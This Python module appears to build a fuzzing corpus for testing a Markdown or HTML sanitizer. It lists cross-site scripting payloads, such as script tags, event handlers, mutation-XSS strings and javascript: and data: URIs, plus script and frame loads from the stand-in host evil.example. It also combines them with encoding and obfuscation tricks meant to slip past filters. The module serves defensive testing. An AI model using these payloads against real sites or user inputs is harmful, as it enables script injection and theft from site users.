"""Hostile texts: what browsers were made to run, in every place of a text, in every disguise."""

from __future__ import annotations

import html
import itertools
import random
import re
from collections.abc import Callable
from urllib.parse import quote

Change = Callable[[str], str]
EVIL = "evil.example"

MARKUP = [
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{EVIL}/x.png>",
    f"<img srcset='//{EVIL}/x.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    f"<iframe src=//{EVIL}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=//{EVIL}></object>",
    f"<embed src=//{EVIL}>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<style>@import '//{EVIL}/x.css';*{{background:url(//{EVIL})}}</style>",
    f"<div style='background:url(//{EVIL})'>x</div>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<base href=//{EVIL}/>",
    f"<form action=//{EVIL}><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    f"<video poster=//{EVIL}/x.png><source src=//{EVIL}/x.mp4></video>",
    f"<audio src=//{EVIL}/x.mp3 autoplay></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    f"<a href=x ping=//{EVIL}>x</a>",
    "<button popovertarget=x onclick=alert(1)>x</button><div id=x popover>x</div>",
    "<span data-term=x><img src=x onerror=alert(1)></span>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
    "<img onerror=alert(1) src>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "</p></div></section></main><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "\x02wzxhzdk:0\x03\x02amp\x03<script>alert(1)</script>",
    "{: onclick=alert(1) style=x }",
]  # fmt: skip
TARGETS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&#58;alert(1)", "javascript&#0000058alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>", f"//{EVIL}/x.png", f"\\\\{EVIL}/x.png",
    f"/\\{EVIL}/x.png", f"https:{EVIL}/x.png", f"https://{EVIL}/x.png", f"///{EVIL}/x.png",
    f"\t//{EVIL}/x.png", "blob:https://x/y", "file:///etc/passwd", "filesystem:https://x/y",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "mailto:x?body=javascript:alert(1)", "media/film.webm\" onerror=\"alert(1)",
    "x\" onmouseover=\"alert(1)", "x' onmouseover='alert(1)",
]  # fmt: skip
LINKS = [
    "[x]({})", "![x]({})", "[x](<{}>)", "![x](<{}>)", "<{}>", "[x][r]\n\n[r]: {}",
    "![x][r]\n\n[r]: <{}>", "[![x]({})]({})", "[x](media/film.webm \"{}\")",
    "[{}](media/film.webm)", "![{}](media/plan.png)",
]  # fmt: skip
SEEDS = [*MARKUP, *(link.replace("{}", target) for target in TARGETS for link in LINKS)]

WRAPPERS: list[Change] = [
    lambda text: text,
    lambda text: f"Avant {text} après",
    lambda text: f"**{text}** *{text}*",
    lambda text: f"- {indent(text)}\n  - {indent(text, 4)}",
    lambda text: f"> {quoted(text)}",
    lambda text: f"> [!EXEMPLE]\n> {quoted(text)}",
    lambda text: f"## {flat(text)} {{#ancre}}",
    lambda text: f"| {flat(text)} | b |\n| --- | --- |\n| a | {flat(text)} |",
    lambda text: f"Note[^1].\n\n[^1]: {indent(text, 4)}",
    lambda text: f"`{text}` ``{text}``",
    lambda text: f"```\n{text}\n```",
    lambda text: f"[{flat(text)}](https://exemple.fr) ![{flat(text)}](media/plan.png)",
    lambda text: f"[x](https://exemple.fr '{flat(text)}')",
    lambda text: f"~~{text}~~\\\n{text}  \n{text}",
    lambda text: f"<https://exemple.fr/{flat(text)}>",
    lambda text: f"[{flat(text)}][r]\n\n[r]: https://exemple.fr \"{flat(text)}\"",
]  # fmt: skip
DISGUISES: list[Change] = [
    lambda text: text,
    lambda text: re.sub(r"(script|onerror|onload|img|svg)", lambda m: m[0].upper(), text),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(":", "&#58;"),
    lambda text: text.replace("<", "&#x3c;").replace("(", "&lpar;"),
    lambda text: text.replace("<", "\\<").replace("(", "\\("),
    lambda text: text.replace("<", "<\x00").replace("script", "scr\x00ipt"),
    lambda text: text.replace("<", "\x02<\x03").replace("script", "scr\x02ipt"),
    lambda text: text.replace("script", "scr\u200bipt").replace("<", "＜"),
    lambda text: text.replace(" ", "\u00a0").replace("=", "\u202f="),
    lambda text: text.replace(" ", "/").replace("<", "< "),
    lambda text: text.replace("<", "<<").replace("script", "scrscriptipt"),
    lambda text: quote(text, safe="[]()<>! "),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace(">", ">\n\n").replace("=", "=\n"),
]  # fmt: skip


def indent(text: str, width: int = 2) -> str:
    """Keep the lines of a text in an item."""
    return text.replace("\n", "\n" + " " * width)


def quoted(text: str) -> str:
    """Keep the lines of a text in a quote."""
    return text.replace("\n", "\n> ")


def flat(text: str) -> str:
    """Put a text on one line."""
    return " ".join(text.split("\n"))


def payloads(count: int) -> list[str]:
    """Give so many hostile texts, always the same; the first have each seed as it is."""
    mixed = list(itertools.product(SEEDS, WRAPPERS, DISGUISES))
    random.Random(2026).shuffle(mixed)
    texts = (wrap(disguise(seed)) for seed, wrap, disguise in mixed)
    return list(dict.fromkeys([*SEEDS, *itertools.islice(texts, 2 * count)]))[:count]
